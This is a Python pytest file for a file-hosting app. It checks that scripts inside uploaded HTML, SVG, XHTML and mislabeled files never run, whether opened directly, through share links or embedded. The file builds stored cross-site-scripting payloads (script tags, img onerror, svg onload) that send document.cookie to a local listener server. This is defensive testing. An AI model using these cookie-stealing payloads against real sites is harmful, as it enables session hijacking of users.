"""What others might bring to harm who looks at pictures: no script in a file ever runs."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest
from selenium import webdriver

from tests.conftest import Server, User
from tests.kit.browser import opened
from tests.kit.keeper import Keeper


@pytest.fixture
def chromium(tmp_path: Path) -> Iterator[webdriver.Chrome]:
    with opened(tmp_path / "profile") as browser:
        yield browser


class Spy(BaseHTTPRequestHandler):
    """Serves the scripts as any careless server would, and hears what they tell."""

    heard: list[str] = []
    pages: dict[str, tuple[str, bytes]] = {}

    def do_GET(self) -> None:
        kind, content = self.pages.get(self.path, ("text/plain", b""))
        if self.path.startswith("/heard"):
            self.heard.append(self.path)
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("access-control-allow-origin", "*")
        self.send_header("content-length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *words: object) -> None:
        pass


@pytest.fixture
def spy() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Spy)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    Spy.heard.clear()
    Spy.pages.clear()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def harmful(spy: str, name: str) -> dict[str, tuple[str, bytes]]:
    """Files with a script that tells the spy that it ran, and the cookie: name → type, content."""
    tell = f"new Image().src='{spy}/heard/{name}?'+document.cookie;fetch('{spy}/heard/{name}');document.title='ran'"
    page = f'<!doctype html><title>x</title><script>{tell}</script><img src=x onerror="{tell}">'.encode()
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{tell}"><script>{tell}</script></svg>'.encode()
    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{tell}</script></html>'.encode()
    return {
        "page.html": ("text/html", page),
        "drawing.svg": ("image/svg+xml", drawing),
        "page.xhtml": ("application/xhtml+xml", xhtml),
        "picture.png": ("image/png", page),
        "words.txt": ("text/plain", page),
        "no type": ("text/html", page),
    }


def test_scripts_in_files_never_run(shoebox: Server, tmp_path: Path, chromium: webdriver.Chrome, spy: str) -> None:
    """Opened as a file, by a link, and within a page of the same server: no script runs, no cookie is told."""
    chromium.execute_cdp_cmd(
        "Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(tmp_path / "got")}
    )
    with User(shoebox, "victim@example.com") as user:
        user.sign_up()
        chromium.get(shoebox.url)
        for name, value in user.cookies.items():
            chromium.add_cookie({"name": name, "value": value, "httpOnly": True, "path": "/"})
        chromium.refresh()
        Keeper(chromium).waits_for("body.signed-in")
        assert chromium.execute_script("return document.cookie") == ""
        opened_files = []
        for name, (kind, content) in harmful(spy, "stored").items():
            assert user.post("/files", files={"file": (name, content, kind)}).status_code == 200
            link = user.post("/files/link", json={"name": name}).json()["url"]
            opened_files += [f"/files/content/{quote(name)}", link]
        for path in opened_files:
            chromium.get(shoebox.url)
            chromium.get(shoebox.url + path)
            assert chromium.title != "ran", path
        chromium.get(shoebox.url)
        embed = """
            const kinds = { iframe: "src", object: "data", embed: "src", img: "src" };
            for (const path of arguments[0]) for (const [kind, key] of Object.entries(kinds))
                document.body.append(Object.assign(document.createElement(kind), { [key]: path }));
        """
        chromium.execute_script(embed, opened_files)
        # the same, from a server that doesn't care, is heard: so would have been what came before it
        careless = harmful(spy, "careless")
        Spy.pages |= {f"/{name}": page for name, page in careless.items()}
        for name in ("page.html", "drawing.svg", "page.xhtml"):
            Spy.heard[:] = [each for each in Spy.heard if "stored" in each]
            chromium.get(f"{spy}/{name}")
            Keeper(chromium).wait(lambda _: any("careless" in each for each in Spy.heard))
        assert not [each for each in Spy.heard if "stored" in each], Spy.heard
